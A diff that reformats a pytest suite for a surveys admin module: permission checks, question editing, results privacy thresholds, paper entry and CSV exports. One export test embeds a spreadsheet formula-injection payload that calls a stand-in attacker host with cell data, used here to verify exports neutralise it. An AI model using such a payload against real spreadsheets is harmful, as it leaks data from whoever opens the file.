@@ -26,8 +26,9 @@ def _english(client):
 
 
 def admin_url(component, name="index", **kwargs):
-    return reverse(f"surveys_admin:{name}", kwargs={"space_id": component.space_id, "component_id": component.pk,
-                                                     **kwargs})
+    return reverse(
+        f"surveys_admin:{name}", kwargs={"space_id": component.space_id, "component_id": component.pk, **kwargs}
+    )
 
 
 def some_answers(survey, count):
@@ -35,34 +36,64 @@ def some_answers(survey, count):
 
 
 def all_urls(component, question):
-    names = ["index", "edit", "questions", "question_new", "copy", "save_template", "results", "texts", "publish",
-             "paper", "exports", "templates"]
+    names = [
+        "index",
+        "edit",
+        "questions",
+        "question_new",
+        "copy",
+        "save_template",
+        "results",
+        "texts",
+        "publish",
+        "paper",
+        "exports",
+        "templates",
+    ]
     urls = [admin_url(component, name) for name in names]
-    urls += [admin_url(component, name, question_id=question.pk) for name in (
-        "question_edit", "question_delete", "question_move", "question_duplicate", "question_conditions")]
+    urls += [
+        admin_url(component, name, question_id=question.pk)
+        for name in ("question_edit", "question_delete", "question_move", "question_duplicate", "question_conditions")
+    ]
     urls += [admin_url(component, "export", export_format=fmt) for fmt in ("csv", "xlsx", "json")]
     return urls
 
 
 @pytest.mark.parametrize("who", ["participant", "moderator", "collaborator", "admin_of_another_space"])
-def test_people_without_the_right_are_refused_every_screen_and_service(client, component, q, survey, organization,
-                                                                       participant, who):
+def test_people_without_the_right_are_refused_every_screen_and_service(
+    client, component, q, survey, organization, participant, who
+):
     if who == "participant":
         user = participant
     else:
-        space = factories.SpaceFactory(organization=organization) if who == "admin_of_another_space" \
-            else component.space
-        name = {"moderator": Role.Name.MODERATOR, "collaborator": Role.Name.COLLABORATOR}.get(who, Role.Name.SPACE_ADMIN)
+        space = (
+            factories.SpaceFactory(organization=organization) if who == "admin_of_another_space" else component.space
+        )
+        name = {"moderator": Role.Name.MODERATOR, "collaborator": Role.Name.COLLABORATOR}.get(
+            who, Role.Name.SPACE_ADMIN
+        )
         user = factories.RoleFactory(space=space, name=name).user
         factories.member_of(user, organization)
     client.force_login(user)
     for url in all_urls(component, q["name"]):
         assert client.get(url).status_code == 403, url
-        assert client.post(url, {"kind": "short_text", "title__fr": "Piratée", "direction": "up",
-                                 "questions": [str(q["bike"].pk)], "reference": "x"}).status_code == 403, url
+        assert (
+            client.post(
+                url,
+                {
+                    "kind": "short_text",
+                    "title__fr": "Piratée",
+                    "direction": "up",
+                    "questions": [str(q["bike"].pk)],
+                    "reference": "x",
+                },
+            ).status_code
+            == 403
+        ), url
     for call in (
-        lambda: services.update_survey(actor=user, component=component, introduction={}, terms={}, opens_at=None,
-                                       closes_at=None),
+        lambda: services.update_survey(
+            actor=user, component=component, introduction={}, terms={}, opens_at=None, closes_at=None
+        ),
         lambda: services.publish_results(actor=user, component=component, question_ids=[q["bike"].pk]),
         lambda: services.unpublish_results(actor=user, component=component),
         lambda: services.enter_paper_answers(actor=user, component=component, values={}, reference="x"),
@@ -89,13 +120,27 @@ def test_the_officer_builds_a_question_with_options_and_a_condition(client, comp
     assert "Ranking" in client.get(admin_url(component, "question_new")).content.decode()
     form = client.get(admin_url(component, "question_new") + "?kind=multiple").content.decode()
     assert "New options, one per line (French)" in form
-    response = client.post(admin_url(component, "question_new"), {
-        "kind": "multiple", "title__fr": "Vos usages", "title__en": "Your uses", "help_text__fr": "", "help_text__en": "",
-        "mandatory": "on", "max_choices": "2", "new_options__fr": "Travail\nLoisirs\nCourses", "new_options__en": "Work\nLeisure\nShopping"})
+    response = client.post(
+        admin_url(component, "question_new"),
+        {
+            "kind": "multiple",
+            "title__fr": "Vos usages",
+            "title__en": "Your uses",
+            "help_text__fr": "",
+            "help_text__en": "",
+            "mandatory": "on",
+            "max_choices": "2",
+            "new_options__fr": "Travail\nLoisirs\nCourses",
+            "new_options__en": "Work\nLeisure\nShopping",
+        },
+    )
     assert response.status_code == 302
     added = Question.objects.get(title__fr="Vos usages")
-    assert [o.label for o in added.options.all()] == [tr("Travail", "Work"), tr("Loisirs", "Leisure"),
-                                                       tr("Courses", "Shopping")]
+    assert [o.label for o in added.options.all()] == [
+        tr("Travail", "Work"),
+        tr("Loisirs", "Leisure"),
+        tr("Courses", "Shopping"),
+    ]
     assert added.max_choices == 2 and added.mandatory
     # Shown only to cyclists.
     data = {"mode": "all", "source_0": str(q["bike"].pk), "operator_0": "equals", "option_0": str(option(q["bike"], 0))}
@@ -111,15 +156,22 @@ def test_the_officer_builds_a_question_with_options_and_a_condition(client, comp
     html = client.get(admin_url(component, "question_conditions", question_id=q["bike"].pk)).content.decode()
     assert "this one has none before it" in html
 
-    assert client.post(admin_url(component, "question_move", question_id=added.pk), {"direction": "up"}).status_code == 302
+    assert (
+        client.post(admin_url(component, "question_move", question_id=added.pk), {"direction": "up"}).status_code == 302
+    )
     assert client.post(admin_url(component, "question_duplicate", question_id=added.pk)).status_code == 302
     assert Question.objects.filter(title__fr="Vos usages (copy)").exists()
     assert client.post(admin_url(component, "question_delete", question_id=q["name"].pk)).status_code == 302
     assert not Question.objects.filter(pk=q["name"].pk).exists()
     assert client.get(admin_url(component, "question_move", question_id=added.pk)).status_code == 405
     verbs = set(ActionLog.objects.values_list("verb", flat=True))
-    assert {"questionnaires.question_added", "questionnaires.conditions_set", "questionnaires.question_moved",
-            "questionnaires.question_duplicated", "questionnaires.question_deleted"} <= verbs
+    assert {
+        "questionnaires.question_added",
+        "questionnaires.conditions_set",
+        "questionnaires.question_moved",
+        "questionnaires.question_duplicated",
+        "questionnaires.question_deleted",
+    } <= verbs
 
 
 def test_once_answered_types_and_options_are_locked_texts_are_not(client, component, survey, q, space_admin):
@@ -128,15 +180,21 @@ def test_once_answered_types_and_options_are_locked_texts_are_not(client, compon
     bike = q["bike"]
     page = client.get(admin_url(component, "question_edit", question_id=bike.pk)).content.decode()
     assert "People have answered: the type can no longer change." in page
-    fields = {"title__fr": "Roulez-vous à vélo ?", "title__en": "", "help_text__fr": "", "help_text__en": "",
-              "mandatory": "on"}
+    fields = {
+        "title__fr": "Roulez-vous à vélo ?",
+        "title__en": "",
+        "help_text__fr": "",
+        "help_text__en": "",
+        "mandatory": "on",
+    }
     for o in bike.options.all():
         fields[f"option_{o.pk}__fr"] = o.label["fr"]
         fields[f"option_{o.pk}__en"] = o.label["en"]
         if o.free_text:
             fields[f"option_{o.pk}_other"] = "on"
-    refused = client.post(admin_url(component, "question_edit", question_id=bike.pk),
-                          {**fields, "new_options__fr": "Parfois"})
+    refused = client.post(
+        admin_url(component, "question_edit", question_id=bike.pk), {**fields, "new_options__fr": "Parfois"}
+    )
     assert refused.status_code == 400 and "already has answers" in refused.content.decode()
     assert client.post(admin_url(component, "question_delete", question_id=q["km"].pk)).status_code == 302
     assert Question.objects.filter(pk=q["km"].pk).exists()
@@ -150,8 +208,9 @@ def test_results_cross_filters_hide_small_groups(client, component, survey, q, s
     client.force_login(space_admin)
     html = client.get(admin_url(component, "results")).content.decode()
     assert "40 responses." in html and "Answers per option" in html and "<svg" in html
-    found = selectors.groups(survey, list(Question.objects.filter(questionnaire=survey.questionnaire)),
-                             f"q{q['bike'].pk}")
+    found = selectors.groups(
+        survey, list(Question.objects.filter(questionnaire=survey.questionnaire)), f"q{q['bike'].pk}"
+    )
     groups = {value: size for value, _label, size in found}
     big = next(value for value, size in groups.items() if size >= 10)
     small = next((value for value, size in groups.items() if 0 < size < 10), None)
@@ -167,8 +226,11 @@ def test_free_texts_are_listed_and_searched(client, component, survey, q, space_
     for text in ("Trop de voitures rue Nationale", "Pas de parking vélo à la gare"):
         person = factories.UserFactory()
         factories.member_of(person, component.space.organization)
-        services.respond(actor=person, component=component, values={
-            q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: text})
+        services.respond(
+            actor=person,
+            component=component,
+            values={q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: text},
+        )
     client.force_login(space_admin)
     html = client.get(admin_url(component, "texts") + f"?question={q['why_not'].pk}&q=gare").content.decode()
     assert "Pas de parking vélo à la gare" in html and "rue Nationale" not in html and "1 answer." in html
@@ -208,27 +270,45 @@ def test_exports_have_one_row_per_response_and_one_column_per_question(client, c
 
 def test_staff_type_in_paper_questionnaires(client, component, survey, q, space_admin):
     client.force_login(space_admin)
-    page = {"page": "0", "go": "next", f"q{q['bike'].pk}": str(option(q["bike"], 1)), f"q{q['why_not'].pk}": "Trop loin"}
+    page = {
+        "page": "0",
+        "go": "next",
+        f"q{q['bike'].pk}": str(option(q["bike"], 1)),
+        f"q{q['why_not'].pk}": "Trop loin",
+    }
     assert "Page 2 of 2" in client.post(admin_url(component, "paper"), page).content.decode()
     review = client.post(admin_url(component, "paper"), {"page": "1", "go": "next"}).content.decode()
     assert "Batch or place the paper form comes from" in review
     refused = client.post(admin_url(component, "paper"), {"page": "review", "go": "submit"})
     assert refused.status_code == 400 and not Response.objects.exists()
-    response = client.post(admin_url(component, "paper"), {"page": "review", "go": "submit",
-                                                            "reference": "Marché, 12 mai"})
+    response = client.post(
+        admin_url(component, "paper"), {"page": "review", "go": "submit", "reference": "Marché, 12 mai"}
+    )
     assert response.status_code == 302
     stored = Response.objects.get()
     assert (stored.channel, stored.entered_by, stored.reference, stored.respondent) == (
-        "paper", space_admin, "Marché, 12 mai", None)
+        "paper",
+        space_admin,
+        "Marché, 12 mai",
+        None,
+    )
     assert ActionLog.objects.filter(verb="surveys.paper_answers_entered").exists()
     assert Survey.objects.get().answer_count == 1
 
 
 def test_settings_and_templates(client, component, survey, q, space_admin, organization):
     client.force_login(space_admin)
-    response = client.post(admin_url(component, "edit"), {
-        "introduction__fr": "Donnez votre avis", "introduction__en": "", "terms__fr": "", "terms__en": "",
-        "opens_at": "2027-01-10T09:00", "closes_at": "2027-01-01T09:00"})
+    response = client.post(
+        admin_url(component, "edit"),
+        {
+            "introduction__fr": "Donnez votre avis",
+            "introduction__en": "",
+            "terms__fr": "",
+            "terms__en": "",
+            "opens_at": "2027-01-10T09:00",
+            "closes_at": "2027-01-01T09:00",
+        },
+    )
     assert response.status_code == 400 and "must open before it closes" in response.content.decode()
     assert client.post(admin_url(component, "save_template"), {"name": "Modèle vélo"}).status_code == 302
     other = factories.ComponentFactory(space=component.space, manifest_name="surveys")
@@ -283,8 +363,11 @@ def test_results_pages_read_the_counters_not_the_answers(client, component, surv
             client.get(url)  # warm the per-process memo
             with CaptureQueriesContext(connection) as captured:
                 assert client.get(url).status_code == 200
-            answers_read = [query["sql"] for query in captured.captured_queries
-                            if re.search(r'FROM "?questionnaires_answer"?\s', query["sql"])]
+            answers_read = [
+                query["sql"]
+                for query in captured.captured_queries
+                if re.search(r'FROM "?questionnaires_answer"?\s', query["sql"])
+            ]
             assert not answers_read, (url, answers_read)
             counts.append(len(captured))
         return counts
@@ -295,8 +378,9 @@ def test_results_pages_read_the_counters_not_the_answers(client, component, surv
     assert queries() == few
 
 
-def test_results_split_by_verified_district_hide_small_districts(client, component, survey, q, space_admin,
-                                                                 organization):
+def test_results_split_by_verified_district_hide_small_districts(
+    client, component, survey, q, space_admin, organization
+):
     from agora.verifications.models import Verification
 
     scope_type = factories.ScopeTypeFactory(organization=organization)
@@ -305,12 +389,16 @@ def test_results_split_by_verified_district_hide_small_districts(client, compone
     for index in range(14):
         person = factories.UserFactory()
         factories.member_of(person, organization)
-        Verification.objects.create(organization=organization, user=person, method="census", status="active",
-                                    scope=gare if index < 11 else pres)
-        services.respond(actor=person, component=component,
-                         values={q["bike"].pk: {"option": option(q["bike"], 0 if index < 11 else 1), "other": ""},
-                                 q["often"].pk: 5} if index < 11 else
-                         {q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}})
+        Verification.objects.create(
+            organization=organization, user=person, method="census", status="active", scope=gare if index < 11 else pres
+        )
+        services.respond(
+            actor=person,
+            component=component,
+            values={q["bike"].pk: {"option": option(q["bike"], 0 if index < 11 else 1), "other": ""}, q["often"].pk: 5}
+            if index < 11
+            else {q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}},
+        )
     client.force_login(space_admin)
     url = admin_url(component, "results") + "?by=district"
     html = client.get(url).content.decode()
@@ -323,8 +411,11 @@ def test_results_split_by_verified_district_hide_small_districts(client, compone
 
 def test_exports_show_formulas_typed_by_people_as_text(client, component, survey, q, space_admin, participant):
     payload = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    services.respond(actor=participant, component=component, values={
-        q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: payload})
+    services.respond(
+        actor=participant,
+        component=component,
+        values={q["bike"].pk: {"option": option(q["bike"], 1), "other": ""}, q["why_not"].pk: payload},
+    )
     client.force_login(space_admin)
     text = b"".join(client.get(admin_url(component, "export", export_format="csv")).streaming_content)
     cells = [cell for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))) for cell in row]
